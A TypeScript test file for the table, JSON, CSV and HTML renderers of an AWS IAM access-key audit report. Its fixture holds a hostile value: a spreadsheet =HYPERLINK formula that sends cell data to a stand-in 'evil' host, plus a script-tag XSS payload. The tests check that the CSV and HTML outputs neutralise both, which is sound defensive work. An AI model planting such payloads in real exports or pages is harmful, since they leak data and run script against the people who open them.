import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import type { UserView } from "./discover-view.js";
import { escapeHtml, renderReportHtml } from "./report-html.js";
import { CSV_HEADER, renderReportCsv, renderReportJson, renderReportTable } from "./report-render.js";
import { buildReport, DAY_MS } from "./report-verdicts.js";

const now = new Date("2026-06-01T00:00:00Z");
const hostile = `=HYPERLINK("https://evil/?"&A1,"x")<script>alert(1)</script>`;
const users: UserView[] = [
  {
    userName: "app",
    userId: "AIDAAPP",
    arn: "arn:aws:iam::123456789012:user/app",
    path: "/",
    createDate: now,
    managedBy: [{ uid: "u1", title: hostile }],
    keys: [
      {
        accessKeyId: "AKIAOLD0000000000001",
        status: "Active",
        createDate: new Date(now.getTime() - 100 * DAY_MS),
        lastUsed: { date: new Date(now.getTime() - DAY_MS), service: "s3", region: "eu-west-1" },
      },
      { accessKeyId: "AKIANEW0000000000002", status: "Inactive", createDate: now, lastUsed: null },
    ],
  },
  { userName: "ops", userId: "AIDAOPS", arn: "", path: "/ops/", createDate: now, managedBy: [], keys: [] },
];
const report = buildReport(users, { account: "123456789012", now, maxAgeMs: 90 * DAY_MS });

test("table: one row per key, the verdict and the summary line", () => {
  const t = renderReportTable(report);
  const lines = t.trimEnd().split("\n");
  assert.match(lines[0]!, /^USER\s+ACCESS KEY\s+STATUS\s+AGE\s+LAST USED\s+MANAGED BY\s+CIS 1.14\s+FINDING$/);
  assert.match(lines[1]!, /AKIAOLD0000000000001\s+Active\s+100d\s+2026-05-31 00:00Z s3 .*VIOLATION/);
  assert.match(lines[2]!, /AKIANEW0000000000002\s+Inactive\s+0d\s+never.*inactive \(listed\)/);
  assert.match(lines[3]!, /^ops\s+-/);
  assert.match(lines[4]!, /1 violation\(s\)/);
});

test("json: generatedAt, account, maxAgeDays, summary and users[]", () => {
  const j = JSON.parse(renderReportJson(report));
  assert.deepEqual(Object.keys(j), [
    "generatedAt",
    "account",
    "maxAgeDays",
    "unusedDays",
    "summary",
    "users",
  ]);
  assert.equal(j.summary.violations, 1);
  assert.equal(j.users[0].keys[0].cis114, "violation");
});

test("csv: one row per key, a formula-looking cell neutralized with a leading quote", () => {
  const rows = parse(renderReportCsv(report)) as string[][];
  assert.deepEqual(rows[0], CSV_HEADER);
  assert.equal(rows.length, 4);
  const managedBy = rows[1]![CSV_HEADER.indexOf("managed_by")]!;
  assert.ok(managedBy.startsWith("'="), managedBy);
  assert.equal(rows[1]![CSV_HEADER.indexOf("cis_1_14")], "violation");
  assert.equal(rows[2]![CSV_HEADER.indexOf("last_used")], "never");
  assert.equal(rows[3]![CSV_HEADER.indexOf("access_key_id")], "");
});

test("html: self-contained (no script, no external resource) and every value escaped", () => {
  const html = renderReportHtml(report);
  assert.ok(html.startsWith("<!DOCTYPE html>"));
  assert.doesNotMatch(html, /<script/i);
  assert.doesNotMatch(html, /\b(src|href)\s*=/i);
  assert.doesNotMatch(html, /https?:\/\/(?!evil)/);
  assert.doesNotMatch(html, /@import|url\(/);
  assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
  assert.match(html, /<tr class="violation">/);
  assert.equal(escapeHtml(`<a href="x">'&'</a>`), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
});
